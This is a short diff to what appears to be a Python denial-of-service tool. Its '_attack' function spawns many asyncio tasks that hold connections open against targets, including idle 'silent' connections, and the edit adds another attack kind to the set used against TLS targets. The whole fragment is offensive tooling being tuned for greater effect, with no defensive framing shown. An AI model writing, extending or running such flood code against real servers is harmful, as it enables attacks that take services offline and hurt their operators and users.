@@ -90,7 +90,7 @@ async def _attack(targets: Sequence[Target], count: int, silent: int, over: Even
         tasks += [asyncio.create_task(_keep(target, kind, next(pods), opened)) for kind in kinds]
         if target.is_tls:
             tasks += [asyncio.create_task(_keep(target, _silence, next(pods), opened)) for _ in range(silent)]
-            tls = (KINDS[3], KINDS[6], KINDS[7])
+            tls = (KINDS[0], KINDS[3], KINDS[6], KINDS[7])
             few = max(1, count // 10)
             tasks += [asyncio.create_task(_keep(target, kind, next(pods), opened, True)) for kind in tls * few]
     while not over.is_set():
